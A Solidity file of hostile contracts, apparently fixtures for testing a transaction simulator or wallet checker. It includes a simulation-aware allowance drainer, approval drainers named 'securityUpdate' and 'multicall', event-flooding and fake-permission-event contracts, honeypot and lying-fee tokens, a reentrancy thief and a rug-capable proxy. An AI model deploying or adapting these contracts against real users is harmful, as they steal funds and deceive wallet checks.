// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
}

/// Hides a movement behind a flood of events, as pools do that pay first and take afterwards.
contract Flood {
    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    event TransferBatch(address indexed operator, address indexed from, address indexed to, uint256[] ids, uint256[] values);
    event TransferSingle(address indexed operator, address indexed from, address indexed to, uint256 id, uint256 value);

    function buy(uint256 junk, IToken token, uint256 amount) external payable {
        for (uint256 at = 0; at < junk; at++) emit Transfer(msg.sender, address(this), at);
        token.transferFrom(msg.sender, address(this), amount);
    }

    function garble(IToken token, uint256 amount) external {
        bytes32 topic = TransferSingle.selector;
        address account = msg.sender;
        assembly {
            log4(0, 0, topic, address(), account, address())
        }
        token.transferFrom(msg.sender, address(this), amount);
    }

    function burn(uint256 contracts, IToken token, uint256 amount) external {
        for (uint256 at = 0; at < contracts; at++) new Junk().shout(msg.sender);
        token.transferFrom(msg.sender, address(this), amount);
    }
}

contract Junk {
    event Transfer(address indexed from, address indexed to, uint256 value);

    function shout(address account) external {
        emit Transfer(account, address(this), 1);
    }
}

/// Pays where it seems to be simulated, and takes all that it may where it is not.
contract Aware {
    function isReal(uint8 sign, uint256 value) public view returns (bool) {
        if (sign == 0) return tx.gasprice > 0;
        if (sign == 1) return block.coinbase != address(uint160(value));
        if (sign == 2) return block.number != value;
        if (sign == 3) return block.timestamp > value;
        if (sign == 4) return tx.origin == msg.sender;
        if (sign == 5) return msg.sender.balance < value;
        if (sign == 6) return gasleft() < value;
        if (sign == 7) return block.prevrandao != value;
        // A price that no transaction has, or a proposer that is derived from the random value of the block
        if (sign == 8) return tx.gasprice > 0 && block.coinbase != address(uint160(block.prevrandao));
        // The same of the hash of the block before
        if (sign == 9) return tx.gasprice > 0 && block.prevrandao != uint256(keccak256(abi.encode(blockhash(block.number - 1))));
        if (sign == 10) return block.basefee > 0;
        return msg.sender.code.length == 0;
    }

    function claim(uint8 sign, uint256 value, IToken token) external payable {
        if (isReal(sign, value)) {
            token.transferFrom(msg.sender, address(this), token.allowance(msg.sender, address(this)));
        } else {
            payable(msg.sender).transfer(msg.value * 2);
        }
    }

    receive() external payable {}
}

/// Gives a right over what the account owes or owns, by an event that no balance tells.
contract Rights {
    event BorrowAllowanceDelegated(address indexed fromUser, address indexed toUser, address indexed asset, uint256 amount);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event AuthorizedOperator(address indexed operator, address indexed holder);
    event RelayerApprovalChanged(address indexed relayer, address indexed sender, bool approved);

    function delegate(address to) external {
        emit BorrowAllowanceDelegated(msg.sender, to, address(this), type(uint256).max);
    }

    function adopt(address to) external {
        emit OwnershipTransferred(msg.sender, to);
    }

    function authorize(address to) external {
        emit AuthorizedOperator(to, msg.sender);
    }

    function relay(address to) external {
        emit RelayerApprovalChanged(to, msg.sender, true);
    }

    function transferOwnership(address) external {}
}

/// A token whose rules change what a person expects: fee, blacklist, honeypot, rebasing, callback.
contract OddToken {
    enum Rule {
        Fee,
        Blacklist,
        Honeypot,
        Rebase,
        Callback,
        Silent,
        Lying
    }

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    Rule public immutable rule;
    address public immutable maker;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public index = 1e18;
    mapping(address => uint256) shares;
    mapping(address => bool) public isListed;
    mapping(address => mapping(address => uint256)) public allowance;
    address public listener;

    constructor(Rule kind, string memory symbol_) {
        (rule, maker, name, symbol) = (kind, msg.sender, symbol_, symbol_);
        shares[msg.sender] = 1e30;
    }

    function balanceOf(address owner) public view returns (uint256) {
        return shares[owner] * index / 1e18;
    }

    function set(address who, bool to, uint256 newIndex, address newListener) external {
        require(msg.sender == maker);
        (isListed[who], index, listener) = (to, newIndex, newListener);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _move(from, to, amount);
    }

    function buy() external payable {
        shares[maker] -= msg.value;
        shares[msg.sender] += msg.value;
        emit Transfer(maker, msg.sender, msg.value);
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        require(rule != Rule.Blacklist || !isListed[from], "Blacklisted");
        require(rule != Rule.Honeypot || from == maker, "Not yet");
        uint256 fee = rule == Rule.Fee || rule == Rule.Lying ? amount / 10 : 0;
        shares[from] -= amount * 1e18 / index;
        shares[to] += (amount - fee) * 1e18 / index;
        shares[maker] += fee * 1e18 / index;
        if (rule != Rule.Silent) emit Transfer(from, to, rule == Rule.Lying ? amount : amount - fee);
        if (rule == Rule.Callback && listener != address(0)) Reenter(listener).moved(from);
        return true;
    }
}

/// Takes another token while the first one is being moved.
contract Reenter {
    IToken immutable other;

    constructor(IToken token) {
        other = token;
    }

    function moved(address from) external {
        other.transferFrom(from, address(this), other.allowance(from, address(this)));
    }
}

/// Pays until its maker changes the code behind it.
contract Upgradeable {
    address public immutable maker = msg.sender;
    address public implementation;

    function upgrade(address to) external {
        require(msg.sender == maker);
        implementation = to;
    }

    fallback() external payable {
        (bool isDone,) = implementation.delegatecall(msg.data);
        require(isDone);
    }

    receive() external payable {}
}

contract Generous {
    function claim(IToken) external payable {
        payable(msg.sender).transfer(msg.value * 2);
    }
}

contract Greedy {
    function claim(IToken token) external payable {
        token.transferFrom(msg.sender, address(this), token.allowance(msg.sender, address(this)));
    }
}

/// Moves what was approved earlier, for any name of a function that sounds harmless.
contract Claim {
    function securityUpdate(IToken token) external payable {
        token.transferFrom(msg.sender, address(this), token.allowance(msg.sender, address(this)));
    }

    function multicall(bytes[] calldata data) external payable {
        for (uint256 at = 0; at < data.length; at++) {
            (address token, address to) = abi.decode(data[at], (address, address));
            IToken(token).transferFrom(msg.sender, to, IToken(token).allowance(msg.sender, address(this)));
        }
    }

    function claimRewards() external payable {}
}

/// A token with ids and other events than ERC-1155 (ERC-6909), as pools keep what they owe.
contract IdToken {
    event Transfer(address caller, address indexed from, address indexed to, uint256 indexed id, uint256 amount);
    event OperatorSet(address indexed owner, address indexed operator, bool approved);
    event Approval(address indexed owner, address indexed spender, uint256 indexed id, uint256 amount);

    mapping(address => mapping(uint256 => uint256)) public balanceOf;
    mapping(address => mapping(address => bool)) public isOperator;
    mapping(address => mapping(address => mapping(uint256 => uint256))) public allowance;

    function mint(uint256 id, uint256 amount) external {
        balanceOf[msg.sender][id] += amount;
        emit Transfer(msg.sender, address(0), msg.sender, id, amount);
    }

    function setOperator(address operator, bool approved) external {
        isOperator[msg.sender][operator] = approved;
        emit OperatorSet(msg.sender, operator, approved);
    }

    function approve(address spender, uint256 id, uint256 amount) external {
        allowance[msg.sender][spender][id] = amount;
        emit Approval(msg.sender, spender, id, amount);
    }

    function transferFrom(address from, address to, uint256 id, uint256 amount) external {
        require(isOperator[from][msg.sender], "no operator");
        balanceOf[from][id] -= amount;
        balanceOf[to][id] += amount;
        emit Transfer(msg.sender, from, to, id, amount);
    }
}

/// Moves a token with ids of which it is an operator.
contract IdClaim {
    function claim(IdToken token, uint256 id) external {
        token.transferFrom(msg.sender, address(this), id, token.balanceOf(msg.sender, id));
    }
}
